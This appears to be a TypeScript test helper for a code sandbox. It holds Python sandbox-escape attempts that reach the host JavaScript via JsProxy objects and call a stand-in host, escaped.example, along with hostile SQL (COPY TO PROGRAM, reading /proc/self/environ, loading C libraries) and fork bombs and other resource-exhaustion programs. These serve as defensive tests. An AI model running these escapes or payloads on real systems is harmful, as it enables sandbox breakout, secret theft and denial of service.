import type { Attempts } from './hostile-code.ts';

const at = (name: string) => JSON.stringify(`https://escaped.example/${name}`);

/**
 * Finds JavaScript from Python: by its module, or through any object of it that Python can get hold of. What it finds is a page or a
 * worker without a sandbox, if there is one.
 */
const findWorld = `
def world():
    try:
        import js
        return js
    except ImportError:
        pass
    import gc, sys
    found = [one for one in gc.get_objects() if 'JsProxy' in repr(type(one).__mro__)]
    for module in list(sys.modules.values()):
        found += [one for one in list(getattr(module, '__dict__', {}).values()) if 'JsProxy' in repr(type(one).__mro__)]
    for one in found:
        try:
            return one.constructor.constructor('return globalThis')()
        except Exception:
            pass
    raise PermissionError('no world')
`;

/** Attempts for Python. Each is the body of an async function, as in hostile-code.ts. */
export const pythonAttempts: Attempts = {
  parent: 'return world().parent.document.body.innerHTML != ""',
  storage: 'world().localStorage.setItem("escaped", "1")\nreturn True',
  fetch: `world().fetch(${at('fetch')})\nreturn None`,
  xhr: `sent = world().XMLHttpRequest.new()\nsent.open("GET", ${at('xhr')})\nsent.send()\nreturn None`,
  'open-url': `from pyodide.http import open_url\nopen_url(${at('open-url')})\nreturn None`,
  script: `from pyodide.code import run_js\nrun_js('fetch(' + repr(${at('script')}) + ')')\nreturn None`,
  worker: 'return world().Worker.new("data:text/javascript,") is not None',
  package: `from pyodide_js import loadPackage\nawait loadPackage(${at('package.whl')})\nreturn None`,
};

/** Writes the program that tries all of them, and says how each ended: `fetch: True`, or `fetch: PermissionError`. */
export function tryAllInPython(attempts: Attempts): string {
  const functions = Object.entries(attempts).map(
    ([name, body]) => `async def attempt():\n${body.replaceAll(/^/gmu, '    ')}\nattempts[${JSON.stringify(name)}] = attempt`,
  );
  return `${findWorld}
attempts = {}
${functions.join('\n')}
for name, attempt in attempts.items():
    try:
        told = await attempt()
    except BaseException as error:
        told = type(error).__name__
    print(f'{name}: {told}')
print('all tried')
`;
}

/**
 * SQL that reaches outside on a server whose owner runs it.
 *
 * @param server how that server connects to itself
 * @param library a library on its disk
 */
export function sqlAttempts(server: string, library: string): readonly string[] {
  return [
    `copy (select 1) to program 'cat > /dev/null';`,
    `create extension dblink; select dblink_connect('${server}');`,
    `create extension postgres_fdw;`,
    `select pg_read_binary_file('/proc/self/environ');`,
    `create function reach() returns void language c as '${library}', 'plpgsql_validator';`,
  ];
}

/** Programs that never end or fill what they can: the name, the language, the code, how they end, and what is said. */
export const endlessEngines: readonly (readonly [name: string, mode: 'python' | 'sql', code: string, status: string, said: RegExp])[] = [
  ['a loop in Python', 'python', 'while True: pass', 'Stopped.', /Stopped: the code took too long\./],
  [
    'a loop in Python that catches',
    'python',
    'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
    'Stopped.',
    /too long/,
  ],
  ['lines without an end in Python', 'python', 'while True: print("x" * 100)', 'Stopped.', /Stopped: the code wrote too much\./],
  ['memory in Python', 'python', 'rows = []\nwhile True: rows.append(bytearray(10_000_000))', 'Done.', /MemoryError/],
  ['files in Python', 'python', 'with open("a", "wb") as file:\n    while True: file.write(b"x" * 1_000_000)', 'Done.', /No space left/],
  ['processes in Python', 'python', 'import os\nwhile True: os.fork()', 'Done.', /Function not implemented/],
  [
    // Without memory, so that it's the time that ends it, however fast the machine is.
    'a query without an end',
    'sql',
    'do $$ begin loop perform 1; end loop; end $$;',
    'Stopped.',
    /too long/,
  ],
  ['results without an end', 'sql', 'select generate_series(1, 200);'.repeat(30), 'Stopped.', /wrote too much/],
];
